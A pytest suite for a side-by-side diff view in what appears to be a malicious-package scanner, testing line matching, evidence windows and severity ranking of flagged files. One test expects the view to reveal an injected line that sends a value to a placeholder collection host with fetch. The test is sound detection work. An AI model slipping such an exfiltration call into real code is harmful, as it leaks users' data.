"""Two texts of one file, side by side."""

from __future__ import annotations

import difflib
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.difference_builders import AFTER, BEFORE, FETCH, SHELL, bundle, difference, gain

from pratique.model.behavior import Seen, Tier
from pratique.reports import difference_sides as sides
from pratique.reports.difference_sides import Row, around, matched, rows_of
from pratique.reports.difference_subject import (
    LARGEST_SIDE,
    MOST_SIDES,
    Side,
    files_to_show,
    side_of,
)

LINES = st.lists(st.sampled_from(["a", "b", "c", "d", "", "unique"]), max_size=30)


def _rows(before: str | None, after: str | None) -> list[Row]:
    rows = rows_of(before, after)
    assert rows is not None
    return rows


def _kinds(before: str, after: str) -> list[str]:
    return [row.kind for row in _rows(before, after)]


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        ("a\nb\nc\n", "a\nb\nc\n", ["same"] * 3),
        ("a\nc\n", "a\nb\nc\n", ["same", "added", "same"]),
        ("a\nb\nc\n", "a\nc\n", ["same", "removed", "same"]),
        ("a\nold\nc\n", "a\nnew\nc\n", ["same", "altered", "same"]),
        ("", "a\nb\n", ["added", "added"]),
        ("a\nb", "", ["removed", "removed"]),
        ("a\r\nb\r\n", "a\nb\n", ["same", "same"]),
        ("x\nreturn 1;\ny\n", "x\nget()\nreturn 2;\ny\n", ["same", "added", "altered", "same"]),
        ("x\nget()\nreturn 2;\ny\n", "x\nreturn 1;\ny\n", ["same", "removed", "altered", "same"]),
    ],
)
def test_rows_tell_what_was_added_removed_and_altered(
    before: str, after: str, expected: list[str]
) -> None:
    assert _kinds(before, after) == expected


@given(LINES, LINES)
def test_both_texts_stand_whole_in_the_rows(old: list[str], new: list[str]) -> None:
    before, after = "\n".join(old), "\n".join(new)
    rows = _rows(before, after)
    assert [r.before.text for r in rows if r.before] == sides_of(before)
    assert [r.after.text for r in rows if r.after] == sides_of(after)
    numbers = [r.after.line for r in rows if r.after]
    assert numbers == sorted(numbers)


def sides_of(text: str) -> list[str]:
    return text.removesuffix("\n").split("\n") if text else []


@given(LINES, LINES)
def test_only_equal_lines_are_matched_and_never_crosswise(old: list[str], new: list[str]) -> None:
    pairs = matched(old, new)
    assert all(old[i] == new[j] for i, j in pairs)
    assert all(i < k and j < m for (i, j), (k, m) in pairwise(pairs))


@given(LINES)
def test_equal_texts_are_matched_whole(lines: list[str]) -> None:
    assert matched(lines, lines) == [(n, n) for n in range(len(lines))]


def test_as_much_is_matched_as_difflib_finds_in_an_ordinary_file() -> None:
    old, new = BEFORE.split("\n"), AFTER.split("\n")
    blocks = difflib.SequenceMatcher(None, old, new, autojunk=False).get_matching_blocks()
    assert len(matched(old, new)) == sum(block.size for block in blocks)


def test_what_was_put_into_the_middle_of_a_long_line_is_seen() -> None:
    before, after = bundle().sides[0].before, bundle().sides[0].after
    added = [row.after for row in _rows(before, after) if row.kind == "added"]
    assert [piece.text for piece in added if piece] == ['fetch("https://collect.invalid/"+t);']


def test_a_window_shows_the_evidence_with_its_neighbours() -> None:
    (window,) = around(_rows(BEFORE, AFTER), [SHELL])
    seen = [row for row in window if row.is_seen]
    assert [(row.after.line, row.snippet) for row in seen if row.after] == [(15, SHELL.snippet)]
    assert window.index(seen[0]) == sides.CONTEXT
    assert len(window) == 2 * sides.CONTEXT + 1


def test_near_windows_are_one_and_far_ones_are_two() -> None:
    text = "\n".join(f"line {n}" for n in range(1, 101))
    rows = _rows(text, text)

    def lines(*numbers: int) -> list[list[int]]:
        places = [Seen("x", "f", n, f"line {n}") for n in numbers]
        return [[r.after.line for r in w if r.after] for w in around(rows, places)]

    assert lines(10, 12) == [list(range(6, 17))]
    assert lines(10, 19) == [list(range(6, 24))]
    assert lines(10, 20, 100) == [[*range(6, 15)], [*range(16, 25)], [*range(96, 101)]]
    assert lines(1, 2) == [list(range(1, 7))]


def test_a_line_that_is_not_there_is_shown_by_its_evidence_alone() -> None:
    assert around(_rows(BEFORE, AFTER), [Seen("x", "lib/setup.js", 999, "y")]) == []


def test_in_a_long_line_the_window_is_where_the_snippet_begins() -> None:
    rows = _rows(None, ";".join(f"var a{n}={n}" for n in range(1000)))
    (window,) = around(rows, [Seen("x", "f", 1, "var a500=500;var a501=501")])
    assert [row.after.text for row in window if row.is_seen and row.after] == ["var a500=500;"]


def test_a_file_of_too_many_lines_is_not_laid_out() -> None:
    assert rows_of("", "\n" * (sides.MOST_PIECES + 1)) is None
    assert rows_of(None, "x;" * (sides.MOST_PIECES + 1)) is None


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (["a"] * 50_000, ["a"] * 49_000 + ["b"]),
        ([str(n % 300) for n in range(30_000)], [str(n * 7 % 300) for n in range(30_000)]),
        ([str(n) for n in range(30_000)], [str(n) for n in reversed(range(30_000))]),
        ([str(n // 2) for n in range(30_000)], [str((n + 9) // 2) for n in range(30_000)]),
    ],
    ids=["equal", "repeated", "reversed", "pairs"],
)
@pytest.mark.timeout(20)
def test_hostile_files_are_laid_out_in_bounded_time(old: list[str], new: list[str]) -> None:
    pairs = matched(old, new)
    assert all(old[i] == new[j] for i, j in pairs)


def test_the_files_to_show_are_those_with_evidence_the_gravest_first() -> None:
    whole = Seen("shape.opaque", "", 0, "")
    of = difference(gained=(gain(SHELL, Tier.A), gain(FETCH, Tier.B), gain(whole, Tier.B)))
    assert files_to_show(of) == ("lib/setup.js",)
    many = difference(
        gained=tuple(gain(Seen(f"x:{n}", f"f{n}.js", 1, "x"), Tier.B) for n in range(100))
    )
    assert files_to_show(many) == tuple(f"f{n}.js" for n in range(MOST_SIDES))


def test_a_side_is_text_and_a_large_file_has_none() -> None:
    assert side_of("a.js", None, b"x\xff") == Side("a.js", None, "x\ufffd")
    assert side_of("a.js", b"x" * (LARGEST_SIDE + 1), b"x") is None
